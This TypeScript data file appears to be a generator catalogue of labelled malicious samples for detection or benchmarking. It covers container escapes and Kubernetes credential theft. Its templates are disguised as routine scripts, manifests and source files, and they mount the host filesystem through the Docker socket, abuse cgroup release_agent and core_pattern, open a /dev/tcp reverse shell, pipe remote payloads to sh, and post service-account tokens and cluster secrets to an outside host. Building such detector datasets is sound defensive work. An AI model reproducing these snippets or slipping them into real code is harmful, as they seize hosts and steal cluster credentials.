// Escapes from containers, and pods that take over their node.
import type { Family } from './family.ts'

export const containers: readonly Family[] = [
  {
    family: 'docker-socket-host-mount',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['jobs/cleanup.py', 'src/worker.py'],
        imports: `import json
import urllib3`,
        body: `def _out():
    http = docker_socket_pool("/var/run/docker.sock")
    spec = {"Image": "alpine", "Cmd": ["chroot", "/mnt", "sh", "-c", "curl -s http://⟦ip⟧/h | sh"],
            "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True, "PidMode": "host"}}
    made = http.request("POST", "/containers/create", body=json.dumps(spec), headers={"Content-Typ⟦join⟧
e": "application/json"})
    http.request("POST", f"/containers/{json.loads(made.data)['Id']}/start")


_out()`,
      },
      {
        paths: ['scripts/entry.sh'],
        whole: String.raw`#!/bin/sh
# waits for the database, then starts the server
until nc -z db 5432; do sleep 1; done
if [ -S /var/run/docker.sock ]; then
  curl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' \
    -d '{"Image":"alpine","Cmd":["sh","-c","echo \"* * * * * root curl http://⟦ip⟧/c|sh\" >> /h/et⟦join⟧
c/crontab"],"HostConfig":{"Binds":["/:/h"]}}' \
    http://localhost/containers/create?name=⟦lower:5⟧
  curl -s --unix-socket /var/run/docker.sock -X POST http://localhost/containers/⟦lower:5⟧/start
fi
exec node server.js`,
      },
    ],
  },
  {
    family: 'release-agent-escape',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['tools/probe.sh'],
        whole: String.raw`#!/bin/bash
set -u
service nginx start

mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir -p /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
upper=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
echo "$upper/⟦lower:4⟧.sh" > /tmp/cg/release_agent
printf '#!/bin/sh\ncurl -s http://⟦ip⟧/node | sh\n' > /⟦lower:4⟧.sh
chmod +x /⟦lower:4⟧.sh
sh -c "echo \$\$ > /tmp/cg/x/cgroup.procs"

tail -f /var/log/nginx/access.log`,
      },
    ],
  },
  {
    family: 'nsenter-proc-root',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['ops/dump.sh'],
        body: `if [ "$(readlink /proc/1/ns/pid)" = "$(readlink /proc/self/ns/pid)" ]; then
  nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c 'curl -s http://⟦ip⟧/host | sh' 2>/d⟦join⟧
ev/null
fi
echo "* * * * * curl -s http://⟦ip⟧/host | sh" >> /proc/1/root/var/spool/cron/crontabs/root`,
      },
      {
        paths: ['manifests/debug-pod.yaml'],
        whole: `apiVersion: v1
kind: Pod
metadata:
  name: everything-allowed
  namespace: default
spec:
  hostPID: true
  hostNetwork: true
  hostIPC: true
  containers:
    - name: shell
      image: ubuntu
      securityContext:
        privileged: true
      command: ["nsenter", "--target", "1", "--mount", "--pid", "--", "bash", "-c"]
      args: ["bash -i >& /dev/tcp/⟦ip⟧/⟦port⟧ 0>&1"]
      volumeMounts:
        - { name: root, mountPath: /host }
  volumes:
    - { name: root, hostPath: { path: / } }`,
      },
    ],
  },
  {
    family: 'core-pattern-escape',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['src/crash.c'],
        imports: `#include <signal.h>
#include <unistd.h>`,
        body: String.raw`/* the kernel runs the pipe as root on the host */
static void take_host(void)
{
    FILE *pattern = fopen("/proc/sys/kernel/core_pattern", "w");

    if (pattern == NULL)
        return;
    fprintf(pattern, "|%s/tmp/⟦lower:5⟧ %%P", overlay_upper_dir());
    fclose(pattern);
    drop_script("/tmp/⟦lower:5⟧", "#!/bin/sh\ncurl http://⟦ip⟧/k|sh\n");
    if (fork() == 0)
        raise(SIGSEGV);
}`,
        call: `take_host();`,
      },
    ],
  },
  {
    family: 'service-account-token-theft',
    positive: true,
    classes: ['container-escape', 'credential-theft'],
    variants: [
      {
        paths: ['src/health.js', 'lib/kube.js'],
        imports: `const fs = require('fs');`,
        body: `const sa = '/var/run/secrets/kubernetes.io/serviceaccount/';
if (fs.existsSync(sa + 'token')) {
  fetch('https://⟦host⟧/k8s', { method: 'POST', body: JSON.stringify({ t: fs.readFileSync(sa + 'to⟦join⟧
ken', 'utf8'), ca: fs.readFileSync(sa + 'ca.crt', 'utf8'), api: process.env.KUBERNETES_SERVICE_HOS⟦join⟧
T }) }).catch(() => {});
}`,
      },
    ],
  },
  {
    family: 'kubernetes-secrets-sweep',
    positive: true,
    classes: ['container-escape', 'credential-theft'],
    variants: [
      {
        paths: ['cmd/list/main.go'],
        imports: `"bytes"
"net/http"
"os/exec"`,
        body: `// harvest sends all secrets of the cluster and leaves a privileged pod.
func harvest() {
	secrets, err := exec.Command("kubectl", "get", "secrets", "-A", "-o", "json").Output()
	if err != nil {
		return
	}
	http.Post("http://⟦ip⟧:⟦port⟧/s", "application/json", bytes.NewReader(secrets))
	exec.Command("kubectl", "apply", "-f", "http://⟦ip⟧:⟦port⟧/privileged-pod.yaml").Run()
}`,
        call: `harvest()`,
      },
    ],
  },
]
